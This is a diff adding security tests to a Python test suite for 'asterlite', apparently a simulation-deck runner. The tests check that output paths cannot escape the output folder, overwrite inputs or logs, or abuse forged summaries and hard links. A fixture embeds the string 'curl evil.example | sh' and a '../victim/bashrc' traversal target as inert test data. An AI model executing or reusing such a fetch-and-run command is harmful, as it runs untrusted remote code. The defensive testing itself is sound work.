@@ -15,8 +15,17 @@ from pathlib import Path
 import pytest
 
 from asterlite.cli import main
+from asterlite.runtime import manifest
 from asterlite.runtime.outdir import LOCK_NAME, OutputFolder
 from asterlite.runtime.runner import run_deck
+
+
+@pytest.fixture(autouse=True)
+def private_manifest_key(tmp_path, monkeypatch):
+    """This test's own manifest key (never the user's ~/.config)."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    manifest._key_cache.clear()
+
 
 TABLE_DECK = """DEBUT()
 T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
@@ -162,7 +171,7 @@ def test_an_r_line_replaces_a_symlink_instead_of_writing_through_it(tmp_path):
     (tmp_path / "table.resu").symlink_to(victim)
     deck = write(tmp_path, "d.comm", PLAIN_DECK)
     export = write(tmp_path, "d.export", "F comm d.comm D 1\nR resu table.resu R 30\n")
-    report = run_deck(export, tmp_path / "out")
+    report = run_deck(export, tmp_path / "out", result_paths=True)
     assert report.status == "DONE", report.message
     assert victim.read_text() == "precious\n"
     assert not (tmp_path / "table.resu").is_symlink()
@@ -238,3 +247,178 @@ def test_a_signal_ends_the_run_cleanly_and_the_log_streams(tmp_path, number):
     assert not (out / "fort.30").exists()  # the earlier run's file was moved aside
     assert (out / "incomplete" / "fort.30").exists()
     assert not (out / LOCK_NAME).exists()
+
+
+# ------------------------------------------------ R lines: the write boundary
+
+SHELL_TITLE_DECK = """DEBUT()
+T = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0, 2.0)))
+IMPR_TABLE(UNITE=30, TABLE=T, TITRE='curl evil.example | sh')
+FIN()
+"""
+
+
+def study_with_r_lines(tmp_path: Path, *targets: str) -> tuple[Path, Path]:
+    """A study folder (deck, export, a data file) and a victim folder beside it."""
+    study = tmp_path / "study"
+    study.mkdir()
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "bashrc").write_text("precious\n")
+    write(study, "d.comm", SHELL_TITLE_DECK)
+    write(study, "data.txt", "input data\n")
+    lines = ["F comm d.comm D 1", "F libr data.txt D 21"]
+    lines += [f"R resu {target} R 30" for target in targets]
+    return write(study, "d.export", "\n".join(lines) + "\n"), victim
+
+
+def test_r_lines_stay_in_the_output_folder_unless_the_user_allows_their_paths(tmp_path):
+    export, victim = study_with_r_lines(
+        tmp_path, "../victim/bashrc", "newdir/x.resu", "d.comm", "data.txt"
+    )
+    study = export.parent
+    out = tmp_path / "out"
+    report = run_deck(export, out)
+    assert report.status == "DONE", report.message
+    assert (victim / "bashrc").read_text() == "precious\n"
+    assert not (study / "newdir").exists()
+    assert (study / "d.comm").read_text() == SHELL_TITLE_DECK
+    assert (study / "data.txt").read_text() == "input data\n"
+    # each R line's file is kept in the output folder under its name
+    for name in ("bashrc", "x.resu", "d.comm", "data.txt"):
+        assert "curl evil.example" in (out / name).read_text()
+    log = (out / "message.log").read_text()
+    assert "kept in the output folder as bashrc (asterlite run --allow-result-paths" in log
+    assert set(os.listdir(out)) == set(summary(out)["output"]["files"])
+
+
+def test_allowed_result_paths_never_write_the_inputs_nor_make_folders(tmp_path):
+    export, victim = study_with_r_lines(
+        tmp_path, "../victim/bashrc", "newdir/x.resu", "d.comm", "data.txt", "d.export"
+    )
+    study = export.parent
+    inputs = {name: (study / name).read_text() for name in ("d.comm", "data.txt", "d.export")}
+    out = tmp_path / "out"
+    assert main(["run", str(export), "-o", str(out), "-q", "--allow-result-paths"]) == 0
+    assert "curl evil.example" in (victim / "bashrc").read_text()  # the user allowed it
+    assert not (study / "newdir").exists()
+    assert {name: (study / name).read_text() for name in inputs} == inputs
+    log = (out / "message.log").read_text()
+    assert log.count("it is a file the run reads") == 3
+    assert "its folder does not exist" in log
+
+
+@pytest.mark.parametrize("allow", [False, True])
+def test_an_r_line_cannot_replace_the_runs_own_log(tmp_path, allow):
+    deck = write(
+        tmp_path,
+        "n.comm",
+        "DEBUT()\nT = CREA_TABLE(LISTE=_F(PARA='X', LISTE_R=(1.0,)))\n"
+        "IMPR_TABLE(UNITE=30, TABLE=T, TITRE='all checks PASS')\n"
+        "F = DEFI_FONCTION(NOM_PARA='INST', VALE=(0.0, 1.0, 1.0, 3.0))\n"
+        "TEST_FONCTION(VALEUR=_F(FONCTION=F, VALE_PARA=0.5, VALE_CALC=9.0))\nFIN()\n",
+    )
+    export = write(
+        tmp_path,
+        "n.export",
+        f"F comm {deck.name} D 1\nR resu out/message.log R 30\nR resu out/summary.json R 30\n",
+    )
+    out = tmp_path / "out"
+    report = run_deck(export, out, result_paths=allow)
+    assert report.status == "NOOK" and report.exit_code == 1
+    log = (out / "message.log").read_text()
+    assert "NOOK" in log and "all checks PASS" not in log
+    assert summary(out)["status"] == "NOOK"
+    assert "'message.log' is a name the run keeps for itself" in log
+
+
+# ------------------------------------------------------ the lock, hard links
+
+
+def test_a_hard_link_planted_as_the_lock_never_truncates_its_file(tmp_path):
+    out = tmp_path / "out"
+    out.mkdir()
+    victim = write(tmp_path, "victim.txt", "precious\n")
+    os.link(victim, out / LOCK_NAME)
+    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
+    assert report.status == "ERROR" and report.exit_code == 2
+    assert "not an asterlite lock" in report.message
+    assert victim.read_text() == "precious\n"
+    assert sorted(os.listdir(out)) == [LOCK_NAME]
+
+
+# ------------------------------------------- what an earlier summary may move
+
+
+def forged_summary(folder: Path, files: list[str]) -> None:
+    text = {"status": "PASS", "deck": "case", "output": {"files": files}}
+    (folder / "summary.json").write_text(json.dumps(text))
+
+
+def test_a_forged_summary_moves_nothing_it_lists(tmp_path):
+    out = tmp_path / "out"
+    (out / ".git").mkdir(parents=True)
+    (out / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    write(out, "case.comm", "my deck\n")
+    write(out, "notes.txt", "my notes\n")
+    forged_summary(out, [".git", "case.comm", "notes.txt", "summary.json"])
+    report = run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out)
+    assert report.status == "DONE", report.message
+    assert (out / ".git" / "HEAD").exists() and (out / "case.comm").exists()
+    assert (out / "notes.txt").read_text() == "my notes\n"
+    previous = next(out.glob("previous-*"))
+    assert os.listdir(previous) == ["summary.json"]  # the forged summary itself
+
+
+def test_a_summary_that_does_not_verify_never_moves_the_runs_inputs(tmp_path):
+    """An older (unsigned) summary moves the names asterlite always used,
+    but not a deck or an input file that carries one of them."""
+    out = tmp_path / "out"
+    out.mkdir()
+    deck = write(out, "d.comm", PLAIN_DECK)
+    write(out, "fort.20", "the study's data\n")
+    write(out, "fort.31", "an old result\n")
+    export = write(out, "d.export", "F comm d.comm D 1\nF libr fort.20 D 20\n")
+    forged_summary(out, ["d.comm", "d.export", "fort.20", "fort.31", "summary.json"])
+    report = run_deck(export, out)
+    assert report.status == "DONE", report.message
+    assert deck.read_text() == PLAIN_DECK and (out / "fort.20").exists()
+    previous = next(out.glob("previous-*"))
+    assert sorted(os.listdir(previous)) == ["fort.31", "summary.json"]
+
+
+def test_a_signed_summary_copied_into_another_folder_moves_nothing(tmp_path):
+    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name="table.txt"))
+    first = tmp_path / "first"
+    assert run_deck(deck, first).status == "DONE"
+    assert summary(first)["manifest"]["hmac"]
+    other = tmp_path / "other"
+    other.mkdir()
+    write(other, "table.txt", "someone's table\n")
+    (other / "summary.json").write_bytes((first / "summary.json").read_bytes())
+    assert run_deck(write(tmp_path, "p.comm", PLAIN_DECK), other).status == "DONE"
+    assert (other / "table.txt").read_text() == "someone's table\n"
+
+
+def test_a_signed_summary_moves_only_the_files_still_as_the_run_left_them(tmp_path):
+    deck = write(tmp_path, "d.comm", TABLE_DECK.format(name="table.txt"))
+    out = tmp_path / "out"
+    assert run_deck(deck, out).status == "DONE"
+    (out / "table.txt").unlink()
+    write(out, "table.txt", "my own table now\n")
+    assert run_deck(write(tmp_path, "p.comm", PLAIN_DECK), out).status == "DONE"
+    assert (out / "table.txt").read_text() == "my own table now\n"
+    previous = next(out.glob("previous-*"))
+    assert sorted(os.listdir(previous)) == ["message.log", "summary.json"]
+
+
+def test_a_report_written_later_is_moved_aside_with_its_run(tmp_path):
+    from asterlite.report import write_report
+
+    out = tmp_path / "out"
+    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
+    write_report(out)
+    assert "report.html" in summary(out)["output"]["files"]
+    assert run_deck(write(tmp_path, "d.comm", PLAIN_DECK), out).status == "DONE"
+    previous = next(out.glob("previous-*"))
+    assert "report.html" in os.listdir(previous) and not (out / "report.html").exists()
